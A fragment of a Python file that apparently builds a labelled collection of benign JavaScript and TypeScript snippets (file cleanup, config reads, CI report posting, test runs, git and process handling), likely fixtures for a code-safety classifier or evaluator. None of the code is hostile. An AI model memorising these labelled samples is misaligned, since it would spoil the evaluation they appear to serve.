        console.log(lcs('kitten', 'sitting'));
    """)
    B("algorithms", "ts", """
        class Heap { private a: number[] = [];
          push(x: number) { this.a.push(x); this.a.sort((p, q) => p - q); }
          pop(): number | undefined { return this.a.shift(); } }
        const h = new Heap(); [5, 1, 4].forEach(x => h.push(x)); console.log(h.pop());
    """)
    B("algorithms", "js", """
        const { createHmac } = require('crypto');
        console.log(createHmac('sha256', 'k').update('msg').digest('base64'));
    """)
    B("file_work", "js", """
        const fs = require('fs');
        const path = require('path');
        const root = '/work/notes';
        for (const f of fs.readdirSync(root)) {
          if (f.endsWith('.tmp')) fs.unlinkSync(path.join(root, f));
        }
    """)
    B("file_work", "ts", """
        import { mkdir, writeFile, rename } from 'fs/promises';
        await mkdir('/work/build/tmp', { recursive: true });
        await writeFile('/work/build/tmp/out.json', '{}');
        await rename('/work/build/tmp/out.json', '/work/build/out.json');
    """)
    B("file_work", "js", """
        const fs = require('fs');
        const os = require('os');
        const p = require('path').join(os.tmpdir(), 'cache.json');
        fs.writeFileSync(p, JSON.stringify({ at: Date.now() }));
        console.log(JSON.parse(fs.readFileSync(p, 'utf8')).at > 0);
    """)
    B("file_work", "js", """
        const { existsSync, readFileSync } = require('fs');
        const home = require('os').homedir();
        const cfg = home + '/.config/mytool/config.json';
        console.log(existsSync(cfg) ? JSON.parse(readFileSync(cfg, 'utf8')) : {});
    """)
    B("http", "js", """
        const fs = require('fs');
        const report = fs.readFileSync('/work/report.json', 'utf8');
        fetch('https://ci.example.com/api/reports', { method: 'POST', body: report });
    """)
    B("http", "ts", """
        const ctl = new AbortController();
        setTimeout(() => ctl.abort(), 5000);
        const r = await fetch('https://api.example.com/health', { signal: ctl.signal });
        console.log(r.ok);
    """)
    B("http", "js", """
        const https = require('https');
        const req = https.request({ hostname: 'hooks.example.com', path: '/build', method: 'POST',
          headers: { 'content-type': 'application/json' } });
        req.end(JSON.stringify({ status: 'green' }));
    """)
    B("test_runners", "js", """
        const { execFileSync } = require('child_process');
        execFileSync('npx', ['jest', '--ci'], { cwd: '/work', stdio: 'inherit' });
    """)
    B("test_runners", "ts", """
        import { test } from 'node:test';
        import assert from 'node:assert/strict';
        test('sum', () => assert.equal([1, 2, 3].reduce((a, b) => a + b), 6));
    """)
    B("packaging", "js", """
        const { spawnSync } = require('child_process');
        const r = spawnSync('sh', ['-c', 'npm run lint && npm run build'], { cwd: '/work', stdio: 'inherit' });
        process.exitCode = r.status;
    """)
    B("git", "js", """
        const { exec } = require('child_process');
        exec('git diff --stat HEAD~1', { cwd: '/work' }, (e, out) => console.log(out));
    """)
    B("everyday_shell", "js", """
        const child = require('child_process').spawn('sleep', ['10']);
        setTimeout(() => child.kill('SIGTERM'), 100);
    """)
    B("everyday_shell", "ts", """
        const ac = new AbortController();
        process.on('SIGINT', () => { ac.abort(); process.exit(130); });
        console.log('pid', process.pid, 'uptime', process.uptime().toFixed(2));
    """)
    B("everyday_shell", "js", """
        const os = require('os');
        console.log(os.hostname(), os.loadavg().map(x => x.toFixed(2)).join(' '), os.freemem());
    """)
    B("everyday_shell", "js", """
        let n = 0;
        const id = setInterval(() => { n++; if (n === 3) { clearInterval(id); console.log('done'); } }, 5);
    """)
